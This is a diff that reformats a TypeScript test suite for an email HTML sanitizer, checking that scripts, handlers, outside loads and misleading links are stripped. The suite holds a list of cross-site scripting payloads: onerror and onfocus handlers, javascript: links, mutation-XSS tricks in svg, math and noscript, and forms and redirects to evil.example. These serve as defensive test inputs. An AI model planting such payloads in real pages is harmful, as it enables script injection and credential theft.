@@ -11,7 +11,9 @@ interface Found {
 /** The elements of a view as a parser that shares nothing with it sees them. */
 function elementsOf({ html }: HtmlView): readonly Found[] {
   const found: Found[] = [];
-  const parser = new Parser({ onopentag: (name, attributes) => found.push({ name, attributes: { ...attributes } }) });
+  const parser = new Parser({
+    onopentag: (name, attributes) => found.push({ name, attributes: { ...attributes } }),
+  });
   parser.write(html);
   parser.end();
   return found;
@@ -25,7 +27,8 @@ function expectSafe(view: HtmlView): void {
 /** What is wrong with an element; plain comparisons, since there may be many thousand. */
 function breachesOf({ name, attributes }: Found): readonly string[] {
   const known = [...(allowedAttributes[name] ?? []), ...(allowedAttributes["*"] ?? [])];
-  const apart = name !== "a" || (attributes.rel === "noopener noreferrer nofollow" && attributes.target === "_blank");
+  const apart =
+    name !== "a" || (attributes.rel === "noopener noreferrer nofollow" && attributes.target === "_blank");
   return [
     ...(allowedTags.includes(name) ? [] : [`element ${name}`]),
     ...(apart ? [] : ["a link that does not open apart"]),
@@ -55,7 +58,7 @@ const attacks: readonly string[] = [
   "<svg><script>steal()</script></svg>",
   '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
   "<svg><style><img src=x onerror=steal()></style></svg>",
-  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=steal()&gt;\">",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">',
   '<math href="javascript:steal()">x</math>',
   '<a href="javascript:steal()">x</a>',
   '<a href="java\nscript:steal()">x</a>',
@@ -74,7 +77,7 @@ const attacks: readonly string[] = [
   "<object data=evil.swf></object><embed src=evil.swf>",
   '<applet code="x"></applet>',
   '<form action="https://evil.example"><input name=password><button>ok</button></form>',
-  '<input onfocus=steal() autofocus><textarea></textarea><select><option>x</select>',
+  "<input onfocus=steal() autofocus><textarea></textarea><select><option>x</select>",
   '<button formaction="javascript:steal()">x</button>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   '<base href="https://evil.example/">',
@@ -90,7 +93,7 @@ const attacks: readonly string[] = [
   "<details open ontoggle=steal()>x</details>",
   '<video poster="https://evil.example/x"><source onerror=steal()></video>',
   '<audio src="https://evil.example/x" onerror=steal()></audio>',
-  "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
+  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
   "<template><script>steal()</script></template>",
   "<xmp><img src=x onerror=steal()></xmp>",
   "<plaintext><img src=x onerror=steal()>",
@@ -127,13 +130,20 @@ describe("nothing in a view runs, loads, posts or covers anything", () => {
   });
 
   test("the check itself sees a breach", () => {
-    const breached = { html: '<b onclick=x>a</b><a href="javascript:x">b</a>', blockedImages: 0, misleadingLinks: 0, cut: false };
+    const breached = {
+      html: '<b onclick=x>a</b><a href="javascript:x">b</a>',
+      blockedImages: 0,
+      misleadingLinks: 0,
+      cut: false,
+    };
     expect(elementsOf(breached).flatMap(breachesOf)).toHaveLength(3);
   });
 
   test("however attacks are broken and joined", () => {
     const pieces = attacks.flatMap((attack) => attack.split(/(?<=[<>"'=\s])/));
-    const html = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4 })), { maxLength: 40 });
+    const html = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4 })), {
+      maxLength: 40,
+    });
     fc.assert(
       fc.property(html, (parts) => expectSafe(htmlView(parts.join(""), { imageUrl: () => "/a/1" }))),
       { numRuns: 500 },
@@ -161,7 +171,8 @@ describe("what a reader needs stays", () => {
   });
 
   test("colours and looks go, so that it is readable on dark and on light", () => {
-    const html = '<font color="#000" face=x><p style="color:black;background:#fff" bgcolor=white class=x>dark</p></font>';
+    const html =
+      '<font color="#000" face=x><p style="color:black;background:#fff" bgcolor=white class=x>dark</p></font>';
     expect(htmlView(html).html).toBe("<p>dark</p>");
   });
 
@@ -191,7 +202,8 @@ describe("images", () => {
   });
 
   test("those of the mail itself are shown from where the caller says", () => {
-    const imageUrl = (contentId: string) => (contentId === "logo@a.example" ? "/attachments/logo" : undefined);
+    const imageUrl = (contentId: string) =>
+      contentId === "logo@a.example" ? "/attachments/logo" : undefined;
     const { html, blockedImages } = htmlView(
       '<img src="cid:logo@a.example" alt="Logo"><img src="CID:logo%40a.example"><img src="cid:other" alt="Other">',
       { imageUrl },
@@ -217,9 +229,13 @@ describe("links", () => {
   });
 
   test("whose text is another address say so behind it", () => {
-    const { html, misleadingLinks } = htmlView('<a href="https://evil.example/login">https://bank.example</a>');
+    const { html, misleadingLinks } = htmlView(
+      '<a href="https://evil.example/login">https://bank.example</a>',
+    );
     expect(misleadingLinks).toBe(1);
-    expect(html).toMatch(/https:\/\/bank\.example<\/a> <span class="link-target">\[→ evil\.example\]<\/span>$/);
+    expect(html).toMatch(
+      /https:\/\/bank\.example<\/a> <span class="link-target">\[→ evil\.example\]<\/span>$/,
+    );
   });
 
   test("that are none lose their address and keep their text", () => {
@@ -241,10 +257,18 @@ describe("size and depth", () => {
   });
 
   // Quadratic work on half a megabyte would outlast the runner's patience.
-  test.each(["<", "<a href=https://x.example>", "<table><tr><td>", "<b>x", "&lt;", "<img src=x>", "<p>", "</p>", '<a "', "<!--"])(
-    "half a megabyte of %j becomes a view",
-    (unit) => {
-      expectSafe(htmlView(unit.repeat(500_000 / unit.length)));
-    },
-  );
+  test.each([
+    "<",
+    "<a href=https://x.example>",
+    "<table><tr><td>",
+    "<b>x",
+    "&lt;",
+    "<img src=x>",
+    "<p>",
+    "</p>",
+    '<a "',
+    "<!--",
+  ])("half a megabyte of %j becomes a view", (unit) => {
+    expectSafe(htmlView(unit.repeat(500_000 / unit.length)));
+  });
 });
